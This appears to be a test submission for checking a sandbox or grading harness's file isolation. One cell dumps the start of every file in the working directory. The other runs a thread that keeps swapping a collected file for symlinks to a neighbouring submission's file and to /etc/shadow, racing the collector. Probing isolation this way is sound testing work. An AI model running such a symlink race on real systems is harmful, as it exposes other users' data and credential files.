"""
tries = "swap a side file for a link to a neighbour's while the submission is collected"
category = "files"
"""

# %% extra
import os
print(*(open(name).read(200) for name in os.listdir(".")))

# %% folder
import os, threading, time

def swap():
    until = time.monotonic() + 0.5
    while time.monotonic() < until:
        for target in (folder.parents[1] / "world/neighbour/neighbour.txt", "/etc/shadow", None):
            (folder / ".new").unlink(missing_ok=True)
            if target:
                (folder / ".new").symlink_to(target)
            else:
                (folder / ".new").write_text("x")
            os.replace(folder / ".new", folder / "swapped.txt")

threading.Thread(target=swap).start()
